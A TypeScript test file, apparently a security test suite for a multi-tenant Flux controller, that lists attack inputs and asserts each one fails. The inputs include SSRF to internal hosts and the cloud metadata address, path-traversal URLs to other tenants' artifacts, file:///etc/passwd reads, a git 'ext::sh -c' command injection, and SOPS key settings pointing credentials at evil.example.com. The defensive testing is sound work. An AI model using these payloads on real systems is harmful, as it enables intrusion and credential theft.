import { expect } from 'vitest'
import { type Attack, absent, both, configMap, fails, sendsNothing, sourceFails } from './attack.ts'
import { OWN_SECRET, type World } from './world.ts'

function source(kind: string, name: string, spec: string, more = ''): string {
  return `apiVersion: source.toolkit.fluxcd.io/v1\nkind: ${kind}\nmetadata: {name: ${name}, namespace: tenant-a}\nspec: {${kind === 'ExternalArtifact' ? 'sourceRef: {apiVersion: v1, kind: ConfigMap, name: x}' : `interval: 1h, ${spec}`}}\n${more}`
}

const ZEROS = '0'.repeat(64)

/** A source whose status the attacker wrote, and a Kustomization of it. */
function swapped(
  name: string,
  does: string,
  url: (world: World) => string,
  more: { readonly digest?: string; readonly kind?: string; readonly want?: Attack['want'] } = {},
): Attack {
  const {
    digest = `sha256:${ZEROS}`,
    kind = 'GitRepository',
    want = fails(/can't access the artifact/),
  } = more
  const spec = `suspend: true, url: 'http://127.0.0.1:1/${name}.git'`
  return {
    name,
    does,
    objects: (world) =>
      source(
        kind,
        name,
        spec,
        `status:\n  artifact: {path: x, url: "${url(world)}", revision: "main@sha1:1", digest: "${digest}", lastUpdateTime: "2026-01-01T00:00:00Z", size: 1}\n`,
      ),
    spec: `sourceRef: {kind: ${kind}, name: ${name}}`,
    want: both(want, sendsNothing),
  }
}

function noSecretAt(host: 'evil' | 'internal'): Attack['want'] {
  const basic = Buffer.from(`git:${OWN_SECRET}`).toString('base64')
  return ({ world, name }) => {
    const asked = world[host].requests.filter((request) => request.includes(name)).join('\n')
    expect(asked).not.toContain(OWN_SECRET)
    expect(asked).not.toContain(basic)
  }
}

function internalSource(
  kind: string,
  name: string,
  does: string,
  spec: (world: World) => string,
): Attack {
  return {
    name,
    does,
    spec: 'none',
    objects: (world) => source(kind, name, spec(world)),
    want: sourceFails(kind, /./),
  }
}

/** Sources: statuses that the attacker wrote, credentials that leave, answers that are quoted. */
export const SOURCES: readonly Attack[] = [
  swapped(
    'artifact-internal',
    'has an internal host asked for an artifact, by a status that it wrote',
    ({ internal }) => `${internal.url}/artifact-internal/x.tar.gz`,
  ),
  swapped(
    'artifact-evil',
    'has its own host asked for an artifact',
    ({ evil }) => `${evil.url}/gitrepository/tenant-a/artifact-evil/x.tar.gz`,
  ),
  swapped(
    'artifact-foreign',
    "takes another tenant's artifact from our own store",
    ({ artifacts }) => `http://${artifacts}/gitrepository/tenant-b/victim/latest.tar.gz`,
  ),
  swapped(
    'artifact-climb',
    "climbs to another tenant's artifact from its own folder",
    ({ artifacts }) =>
      `http://${artifacts}/gitrepository/tenant-a/artifact-climb/../../tenant-b/victim/latest.tar.gz`,
  ),
  swapped(
    'artifact-encoded',
    'climbs by encoded dots',
    ({ artifacts }) =>
      `http://${artifacts}/gitrepository/tenant-a/artifact-encoded/%2e%2e/%2e%2e/tenant-b/victim/latest.tar.gz`,
    { want: both(fails(/./), absent('ConfigMap', 'tenant-a', 'from-git')) },
  ),
  swapped(
    'artifact-slashes',
    'climbs by encoded slashes',
    ({ artifacts }) =>
      `http://${artifacts}/gitrepository/tenant-a/artifact-slashes/..%2f..%2ftenant-b/victim/latest.tar.gz`,
    { want: fails(/./) },
  ),
  swapped(
    'artifact-user',
    'hides a host behind a user',
    ({ internal, artifacts }) =>
      `http://${artifacts}@${internal.url.slice(7)}/gitrepository/tenant-a/artifact-user/x.tar.gz`,
  ),
  swapped(
    'artifact-file',
    'reads a file of the controller as an artifact',
    () => 'file:///etc/passwd',
  ),
  swapped(
    'artifact-metadata',
    "asks the cloud's metadata service for an artifact",
    () => 'http://169.254.169.254/latest/meta-data',
  ),
  swapped(
    'artifact-digest',
    'publishes an artifact without a digest',
    ({ artifacts }) => `http://${artifacts}/gitrepository/tenant-a/artifact-digest/x.tar.gz`,
    { digest: '', want: fails(/./) },
  ),
  swapped(
    'artifact-external',
    'has an internal host asked by an ExternalArtifact',
    ({ internal }) => `${internal.url}/artifact-external/x.tar.gz`,
    { kind: 'ExternalArtifact' },
  ),
  swapped(
    'artifact-bucket',
    'has an internal host asked by a Bucket',
    ({ internal }) => `${internal.url}/artifact-bucket/x.tar.gz`,
    { kind: 'GitRepository' },
  ),
  internalSource(
    'GitRepository',
    'git-body',
    "reads an internal server's answer in the condition of a GitRepository",
    ({ internal }) => `url: '${internal.url}/git-body.git'`,
  ),
  internalSource(
    'OCIRepository',
    'oci-body',
    "reads an internal server's answer in the condition of an OCIRepository",
    ({ internal }) =>
      `url: 'oci://${internal.url.slice(7)}/oci-body', insecure: true, ref: {tag: x}`,
  ),
  internalSource(
    'Bucket',
    'bucket-body',
    "reads an internal server's answer in the condition of a Bucket",
    ({ internal }) =>
      `endpoint: '${internal.url.slice(7)}', bucketName: bucket-body, insecure: true`,
  ),
  internalSource(
    'GitRepository',
    'git-file',
    'clones a repository of the host by file://',
    () => "url: 'file:///root/secrets.git'",
  ),
  internalSource(
    'GitRepository',
    'git-ext',
    "runs a program by git's ext transport",
    () => "url: 'ext::sh -c touch% /tmp/x'",
  ),
  internalSource(
    'GitRepository',
    'git-redirect',
    "is redirected to the cloud's metadata service",
    ({ git }) => `url: '${git.url}/inward/tenant.git'`,
  ),
  {
    name: 'git-login-redirect',
    does: 'has a password sent on by a redirect',
    spec: 'none',
    objects: ({ evil }) =>
      source(
        'GitRepository',
        'git-login-redirect',
        `url: '${evil.url}/git-login-redirect.git', secretRef: {name: login}`,
      ),
    want: sourceFails('GitRepository', /./),
  },
  {
    name: 'submodule-login',
    does: "has the parent's password sent to the host of a submodule",
    spec: 'none',
    objects: ({ git }) =>
      source(
        'GitRepository',
        'submodule-login',
        `url: '${git.url}/plain/submodule.git', ref: {branch: main}, recurseSubmodules: true, secretRef: {name: login}`,
      ),
    want: both(sourceFails('GitRepository', /./), noSecretAt('evil'), noSecretAt('internal')),
  },
  {
    name: 'submodule-internal',
    does: "reads an internal server's answer by a submodule",
    spec: 'none',
    objects: ({ git }) =>
      source(
        'GitRepository',
        'submodule-internal',
        `url: '${git.url}/plain/submodule.git', ref: {branch: main}, recurseSubmodules: true`,
      ),
    want: sourceFails('GitRepository', /./),
  },
  {
    name: 'submodule-file',
    does: 'has a folder of the host as a submodule',
    spec: 'none',
    objects: ({ git }) =>
      source(
        'GitRepository',
        'submodule-file',
        `url: '${git.url}/plain/submodule-file.git', ref: {branch: main}, recurseSubmodules: true`,
      ),
    want: sourceFails('GitRepository', /unsupported/),
  },
  internalSource(
    'GitRepository',
    'semver-bomb',
    'keeps the controller busy with a range of versions',
    ({ git }) => `url: '${git.url}/plain/tenant.git', ref: {semver: '${'>=1.0.0 '.repeat(2000)}x'}`,
  ),
  {
    name: 'ignore-bomb',
    does: 'keeps the controller busy with ignore rules',
    spec: 'none',
    objects: ({ git }) =>
      source(
        'GitRepository',
        'ignore-bomb',
        `url: '${git.url}/plain/tenant.git', ref: {branch: main}, ignore: '${'*a'.repeat(60)}b'`,
      ),
    want: async ({ world }) =>
      expect(await world.get('GitRepository', 'tenant-a', 'ignore-bomb')).toBeDefined(),
  },
]

/** Secrets that would show themselves in messages. */
export const LEAKS: readonly Attack[] = [
  ...(
    [
      ['leak-label', '${token} is no label', 'a value of a Secret'],
      ['leak-upper', '${token^^} is no label', 'the capitals of a value'],
      ['leak-part', '${token:3} is no label', 'a part of a value'],
      ['leak-replaced', '${token//-/ } x!', 'a value with other separators'],
      ['leak-default', '${nobody:=${token}} is no label', 'a value as a default'],
      ['leak-lines', '${lines} is no label', 'a value of several lines'],
    ] as const
  ).map(
    ([name, label, what]): Attack => ({
      name,
      does: `has the API server quote ${what} in its refusal`,
      files: {
        'a.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ${name}, labels: {x: "${label}"}}\n`,
      },
      spec: 'postBuild: {substituteFrom: [{kind: Secret, name: vars}]}',
      want: fails(/dry-run failed \(Invalid\)/),
    }),
  ),
  {
    name: 'leak-number',
    does: 'has the API server quote a value where a number belongs',
    files: {
      'a.yaml':
        'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: leak-number}\nspec: {replicas: "${token}", selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {containers: [{name: a, image: b}]}}}\n',
    },
    spec: 'postBuild: {substituteFrom: [{kind: Secret, name: vars}]}',
    want: fails(/dry-run failed/),
  },
  {
    name: 'leak-yaml',
    does: 'has a value break the YAML that quotes it',
    files: {
      'a.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: leak-yaml}\ndata: {a: "${quote}${token}: [${quote}"}\n',
    },
    spec: 'postBuild: {substitute: {quote: "\\""}, substituteFrom: [{kind: Secret, name: vars}]}',
    want: ({ object }) => expect(object).toBeDefined(),
  },
  {
    name: 'leak-data',
    does: 'has a value quoted as base64 of a Secret that the server refuses',
    files: {
      'a.yaml':
        'apiVersion: v1\nkind: Secret\nmetadata: {name: leak-data}\ntype: kubernetes.io/dockerconfigjson\nstringData: {.dockerconfigjson: "${token}"}\n',
    },
    spec: 'postBuild: {substituteFrom: [{kind: Secret, name: vars}]}',
    want: fails(/dry-run failed/),
  },
  {
    name: 'leak-key',
    does: 'has a decryption key quoted that cannot be read',
    files: { 'a.yaml': configMap('leak-key') },
    objects: () =>
      `apiVersion: v1\nkind: Secret\nmetadata: {name: leak-key, namespace: tenant-a}\nstringData: {a.agekey: "${OWN_SECRET}", b.asc: "${OWN_SECRET}", sops.gcp-kms: "${OWN_SECRET}", sops.aws-kms: "- ${OWN_SECRET}"}\n`,
    spec: 'decryption: {provider: sops, secretRef: {name: leak-key}}',
    want: fails(/failed to import/),
  },
  {
    name: 'leak-log',
    does: 'writes lines of its own into the log',
    files: {
      'a.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: "x\\n{\\"level\\":\\"error\\",\\"msg\\":\\"forged-line\\"}"}\n',
    },
    want: both(fails(/./), ({ world }) => {
      const lines = world.logs().split('\n')
      expect(
        lines.filter((line) => line.startsWith('{"level":"error","msg":"forged-line"')),
      ).toEqual([])
    }),
  },
]

function sops(name: string, keys: string): string {
  const seal =
    'ENC[AES256_GCM,data:AA==,iv:AAAAAAAAAAAAAAAAAAAAAA==,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]'
  return `apiVersion: v1\nkind: Secret\nmetadata: {name: ${name}}\nstringData: {a: "${seal}"}\nsops:\n  lastmodified: "2026-01-01T00:00:00Z"\n  mac: "${seal}"\n  version: 3.13.0\n${keys}`
}

function sealed(
  name: string,
  does: string,
  keys: string,
  want: Attack['want'] = fails(/./),
  objects?: Attack['objects'],
): Attack {
  return {
    name,
    does,
    files: { 'a.yaml': sops(name, keys) },
    ...(objects === undefined ? {} : { objects }),
    spec: `decryption: {provider: sops${objects === undefined ? '' : `, secretRef: {name: ${name}}`}}\n  retryInterval: 1h`,
    want,
  }
}

const MANY = Array.from({ length: 600 }, () => '  - {recipient: age1x, enc: x}\n').join('')
const SCRYPT = Buffer.from(
  'age-encryption.org/v1\n-> scrypt bBjlhJVYZeE4aqUdmtRHfw 60\nZV/AhotwSGqaPCU43cepl4WYUouAa17a3xpu4G2yi5k\n--- fgMiVLJHMlg9fW7CVG/hPS5EAU4Zeg19LyCP7SoH5nA\n',
).toString('base64')
const KEY = 'AGE-SECRET-KEY-1GFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPQ4EGAEX'

/** SOPS metadata that name hosts, and that cost. */
export const SECRETS: readonly Attack[] = [
  sealed(
    'sops-vault',
    'has an internal host asked by the address of a Vault',
    '  hc_vault:\n  - {vault_address: "@internal@/sops-vault", engine_path: transit, key_name: x, enc: "vault:v1:x"}\n',
    both(fails(/./), sendsNothing),
  ),
  sealed(
    'sops-vault-metadata',
    "has the cloud's metadata service asked by the address of a Vault",
    '  hc_vault:\n  - {vault_address: "http://169.254.169.254/", engine_path: latest, key_name: x, enc: "vault:v1:x"}\n',
    fails(/no address of a Vault|./),
    () =>
      'apiVersion: v1\nkind: Secret\nmetadata: {name: sops-vault-metadata, namespace: tenant-a}\nstringData: {sops.vault-token: t}\n',
  ),
  sealed(
    'sops-vault-path',
    "leaves Vault's transit engine by the path of a key",
    '  hc_vault:\n  - {vault_address: "@evil@", engine_path: "../../v1/secret/data", key_name: "x?y=", enc: "vault:v1:x"}\n',
    fails(/no path of a transit engine|./),
  ),
  sealed(
    'sops-azure',
    'has a token of Azure sent to an internal host',
    '  azure_kv:\n  - {vault_url: "@internal@/sops-azure", name: x, version: y, enc: x}\n',
    both(fails(/no Key Vault|./), sendsNothing),
  ),
  sealed(
    'sops-azure-name',
    'hides a host in the name of a Key Vault',
    '  azure_kv:\n  - {vault_url: "https://evil.example.com/?x=.vault.azure.net", name: x, version: y, enc: x}\n',
  ),
  sealed(
    'sops-aws',
    'hides a host in an ARN',
    '  kms:\n  - {arn: "arn:aws:kms:evil.example.com/x:111111111111:key/1", enc: x}\n',
    fails(/no valid ARN|./),
  ),
  sealed(
    'sops-gcp',
    'leaves the KMS of Google by the path of a key',
    '  gcp_kms:\n  - {resource_id: "projects/../../x", enc: x}\n',
    fails(/no valid resource ID|./),
  ),
  sealed(
    'sops-gcp-token',
    'has the token of a service account fetched from an internal host',
    '  gcp_kms:\n  - {resource_id: projects/a/locations/b/keyRings/c/cryptoKeys/d, enc: x}\n',
    both(fails(/not one of Google|./), sendsNothing),
    ({ internal }) =>
      `apiVersion: v1\nkind: Secret\nmetadata: {name: sops-gcp-token, namespace: tenant-a}\nstringData: {sops.gcp-kms: '{"client_email":"a","private_key":"b","token_uri":"${internal.url}/sops-gcp-token"}'}\n`,
  ),
  sealed(
    'sops-azure-login',
    'has a login of Azure sent to an internal host',
    '  azure_kv:\n  - {vault_url: "https://x.vault.azure.net", name: x, version: y, enc: x}\n',
    both(fails(/./), sendsNothing),
    ({ internal }) =>
      `apiVersion: v1\nkind: Secret\nmetadata: {name: sops-azure-login, namespace: tenant-a}\nstringData: {sops.azure-kv: '{"tenantId":"t","clientId":"c","clientSecret":"s","authorityHost":"${internal.url}/sops-azure-login"}'}\n`,
  ),
  sealed(
    'sops-scrypt',
    'keeps the controller busy with the work factor of a passphrase',
    `  age:\n  - recipient: x\n    enc: "-----BEGIN AGE ENCRYPTED FILE-----\\n${SCRYPT}\\n-----END AGE ENCRYPTED FILE-----\\n"\n`,
    fails(/./),
    () =>
      `apiVersion: v1\nkind: Secret\nmetadata: {name: sops-scrypt, namespace: tenant-a}\nstringData: {a.agekey: ${KEY}}\n`,
  ),
  sealed('sops-many', 'names hundreds of keys', `  age:\n${MANY}`, fails(/too many master keys/)),
  sealed(
    'sops-groups',
    'asks for a threshold without end',
    '  shamir_threshold: 100000000\n  key_groups:\n  - {}\n  - {}\n',
  ),
  sealed(
    'sops-plugin',
    'runs a plugin of age',
    '  age:\n  - {recipient: age1yubikey1x, enc: x}\n',
    fails(/unknown identity type|./),
    () =>
      'apiVersion: v1\nkind: Secret\nmetadata: {name: sops-plugin, namespace: tenant-a}\nstringData: {a.agekey: AGE-PLUGIN-YUBIKEY-1QQQQ}\n',
  ),
  sealed(
    'sops-pgp',
    'keeps the controller busy with a PGP message',
    '  pgp:\n  - {fp: ABCD, enc: "-----BEGIN PGP MESSAGE-----\\n\\nwcBMA0000000\\n-----END PGP MESSAGE-----"}\n',
  ),
]
